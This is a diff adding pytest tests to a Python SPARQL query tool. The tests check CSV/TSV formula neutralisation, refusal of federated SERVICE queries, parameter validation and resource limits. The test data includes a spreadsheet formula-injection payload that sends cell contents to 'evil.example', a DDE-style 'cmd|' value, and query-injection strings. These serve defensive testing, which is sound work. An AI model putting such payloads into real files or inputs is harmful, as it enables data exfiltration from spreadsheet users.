@@ -139,7 +139,7 @@ def test_parse_header_and_params():
 
 def test_formats():
     t = Table(("plan", "n", "ok", "note"), (("5G, 專網", Decimal("1.5"), True, None), ('說"明"', 2, False, "a\tb\nc")))
-    assert format_table(t, "csv") == 'plan,n,ok,note\n"5G, 專網",1.5,true,\n"說""明""",2,false,"a\tb\nc"\n'
+    assert format_table(t, "csv") == 'plan,n,ok,note\r\n"5G, 專網",1.5,true,\r\n"說""明""",2,false,"a\tb\nc"\r\n'
     assert format_table(t, "tsv") == "plan\tn\tok\tnote\n5G, 專網\t1.5\ttrue\t\n說\"明\"\t2\tfalse\ta\\tb\\nc\n"
     assert json.loads(format_table(t, "json")) == [
         {"plan": "5G, 專網", "n": 1.5, "ok": True, "note": None},
@@ -158,3 +158,156 @@ def test_no_library_query_tests_a_parameter_with_bound():
     for q in list_queries():
         for p in q.params:
             assert f"BOUND(?{p.name})" not in q.text.replace(" ", ""), q.name
+
+
+def test_csv_and_tsv_neutralise_formulas_and_control_characters():
+    t = Table(("plan", "note"), (('=HYPERLINK("http://evil.example/?"&A1,"click")AI計畫', "@SUM(1+1)*cmd|x\x00\x1b[31m"),
+                                 ("-1.5", "+886")))
+    assert format_table(t, "csv").splitlines()[1:] == [
+        '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")AI計畫",\'@SUM(1+1)*cmd|x[31m', "-1.5,+886"]
+    assert format_table(t, "tsv").splitlines()[1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")AI計畫\t'@SUM(1+1)*cmd|x[31m"
+    assert "\x1b" not in format_table(t, "table") and "\x00" not in format_table(t, "table")
+
+
+def test_table_aligns_by_display_width():
+    t = Table(("plan", "n"), (("數位發展部資訊處", 1), ("AI", 22), ("e\u0301", 3)))
+    lines = format_table(t).splitlines()
+    assert lines[:2] == ["plan             | n", "-----------------+---"]
+    assert lines[2:5] == ["數位發展部資訊處 | 1", "AI               | 22", "e\u0301                | 3"]
+
+
+def test_table_prints_plain_values_json_keeps_types(engine):
+    t = run_query(engine, RG + "SELECT ?serial ?trunc { ?e rg:serial ?serial ; rg:truncated ?trunc } ORDER BY ?serial")
+    assert format_table(t).splitlines()[2] == "1      | false"
+    assert format_table(t, "csv").splitlines()[1] == "1,false"
+    assert json.loads(format_table(t, "json"))[0] == {"serial": 1, "trunc": False}
+
+
+@pytest.mark.parametrize("query", [
+    "SELECT * { SERVICE <http://127.0.0.1:1234/x> { ?s ?p ?o } }",
+    "select * { optional { service silent <http://127.0.0.1:1234/x> { ?s ?p ?o } } }",
+    "SELECT * { SERVIC\\u0045 <http://127.0.0.1:1234/x> { ?s ?p ?o } }",
+    "SELECT * { ?s ?p ?o . SERVICE ?where { ?s ?p ?o } } VALUES ?where { <http://127.0.0.1:1234/x> }",
+    "SELECT * { SERVICE <http://127.0.0.1:1234/x> { ?s ?p ?o } ",  # unparsable: refused all the same
+])
+def test_service_is_refused_before_anything_is_sent(engine, query):
+    with pytest.raises(QueryError, match="SERVICE"):
+        run_query(engine, query)
+
+
+def test_the_word_service_in_data_is_fine(engine):
+    assert run_query(engine, 'SELECT ?x { BIND("SERVICE" AS ?x) }').rows == (("SERVICE",),)
+    assert run_query(engine, "# SERVICE in a comment\nASK { ?s ?p ?o }").rows == ((True,),)
+
+
+def test_service_allowed_when_asked(engine):
+    """The opt-in really runs SERVICE (the engine tries the address; nothing listens there)."""
+    with pytest.raises(Exception) as info:
+        run_query(engine, "SELECT * { SERVICE <http://127.0.0.1:1234/x> { ?s ?p ?o } }", allow_service=True)
+    assert "recgraph refuses" not in str(info.value)
+
+
+def test_max_rows(engine):
+    q = RG + "SELECT ?e { ?e rg:serial ?n } ORDER BY ?n"
+    assert run_query(engine, q, max_rows=2).rows == run_query(engine, q).rows[:2]
+    assert run_query(engine, q, max_rows=2).truncated
+    assert not run_query(engine, q, max_rows=3).truncated
+
+
+@pytest.mark.parametrize("value", ["NaN", "nan", "Infinity", "-Infinity", "1e999999999", "1e9999999999",
+                                   "1" * 50, "2.5e3", ""])
+def test_decimal_parameter_refuses_non_numbers(value):
+    with pytest.raises(QueryError, match="plain decimal number"):
+        parse_value(value, "decimal")
+
+
+@pytest.mark.parametrize("value", ["1" * 5000, "1e3", "NaN"])
+def test_integer_parameter_refuses_non_integers(value):
+    with pytest.raises(QueryError, match="whole number"):
+        parse_value(value, "integer")
+
+
+@pytest.mark.parametrize("value", ["<x> } ; DROP", "<http://a b>", "<>", '<http://a>"x', "http://a>", "theme:a b"])
+def test_iri_parameter_refuses_what_is_not_an_iri(value):
+    with pytest.raises(QueryError, match="bad iri value"):
+        parse_value(value, "iri", {"theme": "https://w3id.org/recgraph/theme/"})
+
+
+def test_non_utf8_query_file(tmp_path):
+    f = tmp_path / "big5.rq"
+    f.write_bytes("# title: 計畫\nSELECT * { ?s ?p ?o }".encode("big5"))
+    with pytest.raises(QueryError, match=r"big5.rq:1: not UTF-8"):
+        load_query(f)
+
+
+# ---------------------------------------------------------------- `recgraph query`: limits and messages
+
+def query_cli(capsys, *args, stdin=None, monkeypatch=None):
+    """Exit code, stdout and stderr of `recgraph query ...` on the fixture, run in-process."""
+    from recgraph.cli import main
+
+    if stdin is not None:
+        import io
+        monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
+    code = main(["query", *args, "--graph", str(FIXTURE)])
+    out, err = capsys.readouterr()
+    assert "Traceback" not in err
+    return code, out, err
+
+
+def test_cli_query_prints_plain_values(capsys):
+    code, out, _ = query_cli(capsys, "plans", "-f", "csv")
+    assert code == 0
+    assert out.splitlines()[1].split(",")[1:4] == ["2025", "1", "5G專網應用推動計畫"]
+
+
+@pytest.mark.parametrize("args,message", [
+    (["plans", "-p", "agency"], "-p agency: expected NAME=VALUE"),
+    (["figures-above-target", "-p", "ratio=NaN"], "bad decimal value 'NaN'"),
+    (["figures-above-target", "-p", "ratio=Infinity"], "bad decimal value 'Infinity'"),
+    (["figures-above-target", "-p", "ratio=1e999999999"], "bad decimal value '1e999999999'"),
+    (["evidence", "-p", "item=<x> } ; DROP"], "bad iri value"),
+    (["evidence", "-p", "item=<http://a b>"], "bad iri value"),
+    (["plans", "-p", "nosuch=1"], "has no parameter 'nosuch'"),
+])
+def test_cli_query_bad_parameters(capsys, args, message):
+    code, out, err = query_cli(capsys, *args)
+    assert code == 4 and out == ""
+    assert err.startswith("error: ") and message in err
+
+
+def test_cli_query_missing_or_bad_graph(capsys, tmp_path):
+    from recgraph.cli import main
+
+    assert main(["query", "plans", "--graph", str(tmp_path / "none.ttl")]) == 2
+    assert "none.ttl: no such graph file; run `recgraph build` first" in capsys.readouterr().err
+    (tmp_path / "bad.ttl").write_text("garbage\n", encoding="utf-8")
+    assert main(["query", "plans", "--graph", str(tmp_path / "bad.ttl")]) == 2
+    assert "bad.ttl:1: not a valid Turtle graph" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("engine", ENGINES)
+def test_cli_query_refuses_service(capsys, monkeypatch, engine):
+    code, _, err = query_cli(capsys, "-", "--engine", engine, monkeypatch=monkeypatch,
+                             stdin="SELECT * { SERVICE <http://127.0.0.1:1234/x> { ?s ?p ?o } }")
+    assert code == 4 and "SERVICE" in err and "--allow-service" in err
+
+
+def test_cli_query_time_limit(capsys, monkeypatch):
+    cartesian = "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n2 ?o }"
+    code, _, err = query_cli(capsys, "-", "--timeout", "1", monkeypatch=monkeypatch, stdin=cartesian)
+    assert code == 4 and "ran longer than 1 s" in err and "--timeout" in err
+
+
+def test_cli_query_memory_limit(capsys, monkeypatch):
+    sorted_cartesian = "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?c ?f ?i"
+    code, _, err = query_cli(capsys, "-", "--max-memory", "0.5", "--timeout", "60", monkeypatch=monkeypatch,
+                             stdin=sorted_cartesian)
+    assert code == 4 and "more than 0.5 GB of memory" in err and "--max-memory" in err
+
+
+def test_cli_query_row_cap(capsys, monkeypatch):
+    code, out, err = query_cli(capsys, "-", "--max-rows", "5", "-f", "tsv", monkeypatch=monkeypatch,
+                               stdin="SELECT ?s { ?s ?p ?o }")
+    assert code == 0 and len(out.splitlines()) == 1 + 5
+    assert "stopped after 5 rows" in err and "--max-rows" in err
